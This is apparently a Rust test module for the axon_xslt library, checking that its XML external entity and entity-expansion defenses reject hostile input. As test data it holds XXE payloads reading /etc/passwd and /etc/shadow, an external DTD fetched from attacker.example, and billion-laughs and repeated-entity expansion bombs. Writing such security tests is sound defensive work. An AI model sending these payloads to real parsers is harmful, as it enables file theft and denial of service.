// XML external entity and entity expansion defenses
#[cfg(test)]
mod test {
    use axon_xslt::{
        SecurityViolation, TransformError, TransformExecutor,
        config::{ExternalEntityPolicy, SecurityConfig, XsltPolicyConfig},
    };

    const COPY_ROOT: &str = r#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><out><xsl:value-of select="/*"/></out></xsl:template>
</xsl:stylesheet>"#;

    const XXE: &str = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;

    fn executor(external_entities: ExternalEntityPolicy) -> TransformExecutor {
        TransformExecutor::from_config(&XsltPolicyConfig {
            stylesheet: COPY_ROOT.to_string(),
            security: SecurityConfig {
                external_entities,
                ..SecurityConfig::default()
            },
            ..XsltPolicyConfig::default()
        })
    }

    #[test]
    fn test_external_entity_fails_transformation() {
        let err = executor(ExternalEntityPolicy::Reject)
            .apply(COPY_ROOT, &[], XXE.as_bytes())
            .unwrap_err();
        assert!(err.is_security_violation());
        assert!(!err.to_string().contains("root:"));
    }

    #[test]
    fn test_external_dtd_fails_transformation() {
        let input = r#"<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo>x</foo>"#;
        let err = executor(ExternalEntityPolicy::Reject)
            .apply(COPY_ROOT, &[], input.as_bytes())
            .unwrap_err();
        assert_eq!(err, TransformError::Security(SecurityViolation::ExternalDtd));
    }

    #[test]
    fn test_billion_laughs_fails_transformation() {
        let input = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<lolz>&lol2;</lolz>"#;
        let err = executor(ExternalEntityPolicy::Reject)
            .apply(COPY_ROOT, &[], input.as_bytes())
            .unwrap_err();
        assert!(matches!(
            err,
            TransformError::Security(SecurityViolation::NestedEntityExpansion { .. })
        ));
    }

    #[test]
    fn test_repeated_internal_entity_is_capped() {
        let input = format!(
            "<!DOCTYPE foo [<!ENTITY a \"{}\">]><foo>{}</foo>",
            "A".repeat(20_000),
            "&a;".repeat(2_000)
        );
        // Well below the body size limit, yet it would expand to 40 MB
        assert!(input.len() < 30_000);

        let err = executor(ExternalEntityPolicy::Reject)
            .apply(COPY_ROOT, &[], input.as_bytes())
            .unwrap_err();
        assert!(matches!(
            err,
            TransformError::Security(SecurityViolation::ExcessiveExpansion { .. })
        ));
    }

    #[test]
    fn test_blank_mode_never_leaks_file_contents() {
        let result = executor(ExternalEntityPolicy::Blank).apply(COPY_ROOT, &[], XXE.as_bytes());
        if let Ok(output) = result {
            let output = String::from_utf8_lossy(&output);
            assert!(!output.contains("root:"), "file contents leaked: {output}");
        }
    }

    #[test]
    fn test_stylesheet_with_external_entity_is_rejected() {
        let stylesheet = r#"<!DOCTYPE xsl:stylesheet [<!ENTITY secret SYSTEM "file:///etc/shadow">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><out>&secret;</out></xsl:template>
</xsl:stylesheet>"#;
        let executor = executor(ExternalEntityPolicy::Reject);
        let err = executor.apply(stylesheet, &[], b"<root/>").unwrap_err();
        assert!(err.is_security_violation());
        assert!(matches!(err, TransformError::Compile(_)));
        assert_eq!(executor.cache_stats().entries, 0);
    }
}
